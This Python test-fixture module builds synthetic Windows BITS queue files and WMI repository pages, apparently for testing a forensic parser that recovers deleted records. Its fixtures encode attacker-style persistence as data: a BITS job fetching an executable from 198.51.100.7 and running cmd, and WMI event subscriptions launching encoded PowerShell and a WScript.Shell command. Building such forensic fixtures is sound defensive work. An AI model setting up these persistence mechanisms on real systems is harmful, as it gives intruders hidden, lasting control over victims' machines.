"""Transfer queues and WMI repositories made by a writer of the tests: no real ones lie in the corpora."""

from __future__ import annotations

import hashlib
import struct
import zlib
from uuid import UUID

FILE_MARK = bytes.fromhex("13f72bc84099124a9f1a3aaebd894eea")
QUEUE_MARK = bytes.fromhex("47445f00a9bdba449851c47bb6c07ace")
JOB_MARK = bytes.fromhex("93362035a00c104a84f3b17e7b499cd7")
FILES_MARK = bytes.fromhex("36da56776f515a43acac44a248fff34d")
CREATED = 132_592_344_000_000_007


def _text(text: str) -> bytes:
    return struct.pack("<I", len(text) + 1) + text.encode("utf-16-le") + b"\0\0"


def transfer(local: str, remote: str) -> bytes:
    sizes = struct.pack("<qqB", 1000, 2000, 0)
    return _text(local) + _text(remote) + _text(local + ".tmp") + sizes + _text("C:\\") + _text("\\\\?\\Volume{1}\\")


def job(name: str, files: list[tuple[str, str]], program: str = "", number: int = 1) -> bytes:
    texts = [name, "made for a test", program, "/c whoami" if program else "", "S-1-5-18"]
    out = struct.pack("<IIII", 0, 3, 6, 0) + UUID(int=number).bytes_le + b"".join(map(_text, texts))
    out += struct.pack("<I", 0) + FILES_MARK + struct.pack("<I", len(files))
    out += b"".join(transfer(*pair) for pair in files) + FILES_MARK
    return out + struct.pack("<IIIIQQQ", 0, 0, 600, 86400, CREATED, CREATED + 600_000_000, 0) + bytes(14)


def queue(jobs: list[bytes], left_over: bytes = b"") -> bytes:
    """As qmgr0.dat holds it; a job that was finished lies behind the queue's end."""
    inner = b"".join(JOB_MARK + one + JOB_MARK for one in jobs)
    old = JOB_MARK + left_over + JOB_MARK if left_over else b""
    return FILE_MARK + QUEUE_MARK + struct.pack("<I", len(jobs)) + inner + QUEUE_MARK + FILE_MARK + old + bytes(256)


JOBS = [
    job("update", [("C:\\Windows\\Temp\\a.exe", "http://198.51.100.7/a.exe")], "C:\\Windows\\System32\\cmd.exe"),
    job("two", [("C:\\x\\1", "https://e.example/1"), ("C:\\x\\2", "https://e.example/2")], number=2),
]
OLD = job("gone", [("C:\\ProgramData\\b.dll", "http://198.51.100.7/b.dll")], number=3)


def bits() -> bytes:
    return queue(JOBS, OLD)


def _instance(name: str, texts: list[str], wide: tuple[str, ...] = ()) -> bytes:
    mark = hashlib.sha256(name.upper().encode("utf-16-le")).hexdigest().upper().encode("utf-16-le")
    narrow = b"".join(b"\0" + text.encode("cp1252") + b"\0" for text in [name, *texts])
    broad = b"".join(b"\1" + text.encode("utf-16-le") + b"\0\0" for text in wide)
    sid = b"\x1c\0\0\0" + struct.pack("<BBBBBBBBIIIII", 1, 5, 0, 0, 0, 0, 0, 5, 21, 1, 2, 3, 500)
    return (
        mark + struct.pack("<QQ", CREATED, CREATED + 10) + struct.pack("<II", 0x100, 5) + b"\xf0" + sid + narrow + broad
    )


FILTER = ["root\\cimv2", "Updater", "SELECT * FROM __InstanceModificationEvent WITHIN 60", "WQL"]
COMMAND = ["powershell.exe -nop -enc SQBFAFgA", "UpdaterConsumer"]
SCRIPT = ["Scripted", "VBScript", 'Set o = CreateObject("WScript.Shell")\r\no.Run "cmd /c x"']
BINDING = ['CommandLineEventConsumer.Name="UpdaterConsumer"', '__EventFilter.Name="Updater"']
RECORDS = [
    _instance("__EventFilter", FILTER),
    _instance("CommandLineEventConsumer", COMMAND, ("C:\\Wind\u00f6ws",)),
    _instance("ActiveScriptEventConsumer", SCRIPT),
    _instance("__FilterToConsumerBinding", BINDING),
]


def page(records: list[bytes], stray: bytes = b"") -> bytes:
    """One page: table, records, and a record that no entry of the table leads to any more."""
    at = 16 * (len(records) + 1)
    table, body = b"", b""
    for number, record in enumerate(records, 1):
        table += struct.pack("<IIII", number, at + len(body), len(record), zlib.crc32(record))
        body += record
    return (table + bytes(16) + body + stray).ljust(8192, b"\0")


def wmi() -> bytes:
    stray = _instance("CommandLineEventConsumer", ["C:\\old\\removed.exe -x", "Old"])
    return page([b"class definition" * 4]) + page(RECORDS[:3]) + page(RECORDS[3:], bytes(64) + stray)
